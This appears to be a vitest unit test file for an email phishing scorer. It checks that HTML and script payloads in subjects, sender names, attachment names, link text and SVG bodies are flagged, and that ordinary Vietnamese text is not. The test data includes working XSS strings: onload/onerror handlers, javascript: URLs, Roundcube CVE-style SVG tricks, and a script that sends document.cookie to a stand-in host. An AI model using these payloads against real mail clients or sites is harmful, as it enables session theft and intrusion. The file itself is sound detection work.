import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { contextFor, ids, message, policy } from '../../../tests/unit/scoring/helpers';
import { htmlToContent } from '../../mail/html';
import { parseRawMessage } from '../../mail/parse';
import type { MailMessage } from '../../mail/types';
import { score } from '../index';
import { looksLikeMarkup, markupSignals } from './markup';

const findings = (fields: Partial<MailMessage>) => {
  const msg = message(fields);
  return markupSignals(msg, contextFor(msg));
};

const root = join(import.meta.dirname, '../../..');

describe('text.html-payload', () => {
  it.each([
    ['subject', { subject: 'Hộp thư đầy <svg onload=alert(1)>' }],
    ['subject, script tag', { subject: '<script>fetch("//x.y/"+document.cookie)</script>' }],
    ['display name', { from: { name: 'Quản trị <img src=x onerror=alert(1)>', address: 'a@b.com' } }],
    ['display name, event handler on a harmless tag', { from: { name: '<b onmouseover="alert(1)">Admin</b>', address: 'a@b.com' } }],
    ['Reply-To name', { replyTo: [{ name: '<iframe src=//x.y>', address: 'x@gmail.com' }] }],
    ['attachment name', { attachments: [{ filename: '"><svg/onload=alert(1)>.svg' }] }],
    ['link text', { links: [{ href: 'https://x.weebly.com/', text: '<img src=x onerror=alert(1)> Bấm vào đây' }] }],
    ['link text, script URL', { links: [{ href: 'https://x.weebly.com/', text: 'javascript:alert(document.domain)' }] }],
    ['CVE-2023-5631 pattern in a subject', { subject: '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/>' }],
    ['CVE-2024-37383 pattern in a subject', { subject: '<svg><animate attributeName="href" values="javascript:alert(1)"/>' }],
  ])('fires on markup in the %s', (_where, fields) => {
    const found = findings(fields);
    expect(ids(found)).toEqual(['text.html-payload']);
    expect(found[0]?.weight).toBeGreaterThanOrEqual(30);
    expect(found[0]?.evidence[0]).toMatch(/<|script:/);
  });

  it.each([
    'Re: Công văn số 125/KH-UBND <<khẩn>>',
    'Khóa học JavaScript: cơ bản và nâng cao',
    'Nguyễn Văn A <nva@laocai.gov.vn>',
    'Tài liệu <bản 2> (sửa).docx',
    'Tỷ lệ a < b và c > d',
    'Họp online = trực tuyến lúc 14h',
    '<Không có tiêu đề>',
    'Báo cáo <b>quý II</b>',
  ])('stays quiet on ordinary text: %s', (text) => {
    expect(looksLikeMarkup(text)).toBe(false);
  });

  it('names at most three distinct payloads', () => {
    const payload = '<svg onload=alert(1)>';
    const found = findings({
      subject: payload,
      from: { name: payload, address: 'a@b.com' },
      links: Array.from({ length: 50 }, (_, i) => ({ href: 'https://x.com/', text: `<img src=${i} onerror=x>` })),
    });
    expect(found[0]?.evidence).toEqual([payload, '<img src=0 onerror=x>', '<img src=1 onerror=x>']);
  });

  it('reads hostile fields in linear time', () => {
    const subject = '<a '.repeat(100_000) + ' onaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa  '.repeat(20_000);
    const links = Array.from({ length: 10_000 }, () => ({ href: 'https://x.com/', text: '<b x'.repeat(2000) }));
    const started = performance.now();
    findings({ subject, links });
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('does not fire on any mail of the corpus but the ones that carry a payload', async () => {
    for (const folder of ['benign', 'lures']) {
      const dir = join(root, 'tests/corpus', folder);
      for (const file of readdirSync(dir).filter((f) => f.endsWith('.eml'))) {
        const verdict = score(await parseRawMessage(readFileSync(join(dir, file))), policy());
        expect(verdict.reasons.map((r) => r.id), `${folder}/${file}`).not.toContain('text.html-payload');
      }
    }
  });
});

describe('script smuggled in the body\'s SVG', () => {
  it('reads Roundcube CVE-2023-5631\'s <use href="data:…"> (tab and case tricks included) as a script link', () => {
    const html = '<svg><use href="dAta:image/s\tvg+xml;base64,PHN2ZyBpZD0ieDIiPjwvc3ZnPg==#x2"></use></svg>';
    const { links } = htmlToContent(html);
    expect(links).toEqual([{ href: 'dAta:image/svg+xml;base64,PHN2ZyBpZD0ieDIiPjwvc3ZnPg==#x2', text: '' }]);
    expect(ids(score(message({ links }), policy()).reasons)).toContain('link.script-url');
  });

  it('reads an <animate> that turns a link into javascript: as a script link', () => {
    const { links } = htmlToContent('<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>Xác nhận</text></a></svg>');
    expect(links.map((l) => l.href)).toContain('javascript:alert(1)');
    expect(ids(score(message({ links }), policy()).reasons)).toContain('link.script-url');
  });

  it('leaves ordinary SVG and images alone', () => {
    const { links } = htmlToContent(
      '<svg><use href="#icon"/><image href="data:image/png;base64,iVBORw0KGgo="/><animate attributeName="opacity" values="0;1;0"/></svg>' +
        '<iframe src="https://laocai.gov.vn/video"></iframe>',
    );
    expect(links).toEqual([]);
  });

  it('flags the end-to-end lure from its raw source: payload fields, script links, SVG attachment', async () => {
    const raw = readFileSync(join(root, 'tests/e2e/mails/html-payload-lure.eml'));
    const parsed = await parseRawMessage(raw);
    const verdict = score(parsed, policy('soctrang.gov.vn'));
    expect(verdict.level).toBe('danger');
    expect(ids(verdict.reasons)).toEqual(expect.arrayContaining(['text.html-payload', 'link.script-url', 'attachment.html']));
    const payload = verdict.reasons.find((r) => r.id === 'text.html-payload');
    expect(payload?.evidence.join(' ')).toContain('<svg onload=');
  });
});
